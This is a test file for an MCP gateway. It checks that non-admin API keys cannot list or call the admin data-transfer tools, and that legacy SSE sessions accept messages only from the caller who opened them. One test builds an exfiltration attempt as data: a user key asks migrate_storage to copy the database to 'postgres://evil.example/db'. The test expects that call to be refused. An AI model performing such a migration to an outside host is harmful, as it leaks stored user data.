// The MCP data-transfer tools (files on the gateway's host, database URLs) exist only for admins:
// a user key neither lists nor calls them, on either transport; a legacy SSE session answers only
// the caller who opened it.
import assert from 'node:assert/strict'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { describe, it, type TestContext } from 'node:test'
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js'
import { ADMIN_TOOLS } from '../../src/modules/mcp-server/tools/admin-tools.js'
import { bearer, createRoleKeys, type RoleKeys } from '../helpers/api-keys.js'
import { buildTestApp, listen } from '../helpers/build-test-app.js'
import { mcpClientWithKey } from '../helpers/mcp-client.js'
import { openSse } from '../helpers/sse-client.js'

async function gateway(t: TestContext): Promise<{ base: string; keys: RoleKeys }> {
  const { app, deps } = await buildTestApp(t, { env: { AUTH_MODE: 'api_key' } })
  const keys = await createRoleKeys(deps)
  return { base: await listen(app), keys }
}

function textOf(result: unknown): string {
  return (result as CallToolResult).content.map((c) => (c.type === 'text' ? c.text : '')).join('\n')
}

for (const transport of ['streamable-http', 'sse'] as const) {
  describe(`MCP admin-only tools over ${transport}`, () => {
    it('a user key does not list them and cannot call them; nothing is written', async (t) => {
      const { base, keys } = await gateway(t)
      const client = await mcpClientWithKey(t, base, transport, keys.user)
      const names = (await client.listTools()).tools.map((tool) => tool.name)
      assert.ok(names.includes('list_available_agents'), 'the user’s other tools are there')
      for (const name of ADMIN_TOOLS) assert.ok(!names.includes(name), `${name} is not listed for a user`)

      const dir = mkdtempSync(path.join(tmpdir(), 'gw-mcp-admin-'))
      t.after(() => rmSync(dir, { recursive: true, force: true }))
      const file = path.join(dir, 'stolen.jsonl')
      const backup = (await client.callTool({ name: 'backup_agents', arguments: { backup_path: file } })) as CallToolResult
      assert.equal(backup.isError, true)
      assert.match(textOf(backup), /Tool backup_agents not found/)
      assert.equal(existsSync(file) || existsSync(`${file}.partial`), false, 'no backup was written')
      const migrate = (await client.callTool({
        name: 'migrate_storage',
        arguments: { from_url: 'sqlite:./a.db', to_url: 'postgres://evil.example/db' },
      })) as CallToolResult
      assert.equal(migrate.isError, true)
      assert.match(textOf(migrate), /Tool migrate_storage not found/)
    })

    it('an admin key lists and calls them', async (t) => {
      const { base, keys } = await gateway(t)
      const client = await mcpClientWithKey(t, base, transport, keys.admin)
      const names = (await client.listTools()).tools.map((tool) => tool.name)
      for (const name of ADMIN_TOOLS) assert.ok(names.includes(name), `${name} is listed for an admin`)
      const restore = (await client.callTool({ name: 'restore_agents', arguments: { backup_path: '/nonexistent-dir/b.jsonl' } })) as CallToolResult
      assert.equal(restore.isError, true)
      assert.match(textOf(restore), /no backup file at \/nonexistent-dir\/b\.jsonl/, 'the data-transfer module answered')
    })
  })
}

describe('legacy MCP SSE sessions', () => {
  it('take messages only from the caller who opened them', async (t) => {
    const { base, keys } = await gateway(t)
    const stream = await openSse(`${base}/sse`, { headers: bearer(keys.admin) })
    t.after(() => stream.abort())
    const frames = await stream.until((seen) => seen.some((f) => f.event === 'endpoint'))
    const endpoint = frames.find((f) => f.event === 'endpoint')
    const messagesUrl = new URL(endpoint!.data, base).toString()
    const ping = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' })
    const post = (key: string) => fetch(messagesUrl, { method: 'POST', headers: { ...bearer(key), 'content-type': 'application/json' }, body: ping })

    const foreign = await post(keys.user)
    assert.equal(foreign.status, 404)
    assert.match(((await foreign.json()) as { detail: string }).detail, /Session not found/)
    assert.equal((await post(keys.admin)).status, 202)
  })
})
